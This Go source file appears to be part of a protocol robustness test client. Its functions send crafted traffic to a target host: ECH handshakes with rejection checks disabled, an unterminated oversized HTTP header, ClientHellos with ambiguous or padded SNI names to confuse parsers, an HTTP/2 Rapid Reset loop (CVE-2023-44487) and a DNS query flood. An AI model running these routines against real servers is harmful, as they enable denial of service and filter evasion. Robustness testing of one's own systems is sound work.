package main

import (
	"bytes"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// sayECH TARGET OUTER INNER PAYLOAD: a handshake whose real name is encrypted.
func sayECH(args []string) error {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	pub := key.PublicKey().Bytes()
	var b []byte
	b = append(b, 7)                           // config id
	b = binary.BigEndian.AppendUint16(b, 0x20) // DHKEM(X25519)
	b = binary.BigEndian.AppendUint16(b, uint16(len(pub)))
	b = append(b, pub...)
	b = append(b, 0, 4, 0, 1, 0, 1) // HKDF-SHA256, AES-128-GCM
	b = append(b, 32, byte(len(args[1])))
	b = append(b, args[1]...)
	b = append(b, 0, 0)
	b = append(binary.BigEndian.AppendUint16([]byte{0xfe, 0x0d}, uint16(len(b))), b...)
	list := append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...)
	c, err := net.DialTimeout("tcp", args[0], patience())
	if err != nil {
		return err
	}
	c.SetDeadline(time.Now().Add(patience()))
	t := tls.Client(c, &tls.Config{ServerName: args[2], EncryptedClientHelloConfigList: list, MinVersion: tls.VersionTLS13,
		EncryptedClientHelloRejectionVerify: func(tls.ConnectionState) error { return nil }})
	if err := t.Handshake(); err != nil {
		return fmt.Errorf("handshake: %w", err)
	}
	return exchange(t, args[3:])
}

// endless TARGET HOST BYTES MARK: a head that does not end.
func endless(args []string) error {
	c, err := net.DialTimeout("tcp", args[0], patience())
	if err != nil {
		return err
	}
	return exchange(c, []string{"GET /" + args[3] + " HTTP/1.1\r\nHost: " + args[1] + "\r\nX: " + strings.Repeat("a", number(args[2])) + "\r\n\r\n"})
}

// twoNames TARGET KIND NAME NAME: a ClientHello that a parser could read either
// way.
func twoNames(args []string) error {
	name := func(kind byte, s string) []byte {
		return append(binary.BigEndian.AppendUint16([]byte{kind}, uint16(len(s))), s...)
	}
	ext := func(kind uint16, body []byte) []byte {
		b := binary.BigEndian.AppendUint16(nil, kind)
		return append(binary.BigEndian.AppendUint16(b, uint16(len(body))), body...)
	}
	list := func(b []byte) []byte { return append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...) }
	a, b := text(args[2]), text(args[3])
	var exts []byte
	switch args[1] {
	case "list":
		exts = ext(0, list(append(name(0, a), name(0, b)...)))
	case "list-other-type":
		exts = ext(0, list(append(name(1, b), name(0, a)...)))
	case "extensions":
		exts = append(ext(0, list(name(0, a))), ext(0, list(name(0, b)))...)
	case "trailing":
		exts = ext(0, append(list(name(0, a)), name(0, b)...))
	case "late": // behind more padding than anybody reads
		exts = append(ext(21, make([]byte, 60000)), ext(0, list(name(0, b)))...)
	default: // the name alone, in records of one byte
		exts = ext(0, list(name(0, b)))
	}
	exts = append(exts, ext(43, []byte{2, 3, 4})...)
	exts = append(exts, ext(10, []byte{0, 2, 0, 29})...)
	exts = append(exts, ext(13, []byte{0, 2, 8, 4})...)
	body := append([]byte{3, 3}, make([]byte, 32)...)
	body = append(body, 0, 0, 2, 0x13, 0x01, 1, 0)
	body = append(body, list(exts)...)
	msg := append([]byte{1, byte(len(body) >> 16), byte(len(body) >> 8), byte(len(body))}, body...)
	step := 16000
	if args[1] == "bytes" {
		step = 1
	}
	var wire []byte
	for len(msg) > 0 {
		n := min(step, len(msg))
		wire = append(binary.BigEndian.AppendUint16(append(wire, 22, 3, 1), uint16(n)), msg[:n]...)
		msg = msg[n:]
	}
	c, err := net.DialTimeout("tcp", args[0], patience())
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(patience()))
	if _, err := c.Write(wire); err != nil {
		return err
	}
	answer := make([]byte, 100)
	n, err := c.Read(answer)
	fmt.Printf("answer %x\n", answer[:n])
	return err
}

// rapid TARGET NAME N: streams that are opened and reset at once (CVE-2023-44487).
func rapid(args []string) error {
	c, err := net.DialTimeout("tcp", args[0], patience())
	if err != nil {
		return err
	}
	defer c.Close()
	t, err := hello(c, args[1], "h2")
	if err != nil {
		return err
	}
	t.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := t.Write([]byte(http2.ClientPreface)); err != nil {
		return err
	}
	go io.Copy(io.Discard, t)
	fr := http2.NewFramer(t, nil)
	if err := fr.WriteSettings(); err != nil {
		return err
	}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for i := range number(args[2]) {
		block.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", args[1]}, {":path", "/rapid"}} {
			enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		id := uint32(2*i + 1)
		if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
			return err
		}
		if err := fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
			return err
		}
	}
	return nil
}

// manyNames N SUFFIX: as many different names as can be asked for.
func manyNames(args []string) error {
	answered := 0
	for i := range number(args[0]) {
		if dns([]string{"udp", "203.0.113.53:53", "1", fmt.Sprintf("n%d.%s", i, args[1])}) == nil {
			answered++
		}
	}
	fmt.Println("answered", answered)
	return nil
}
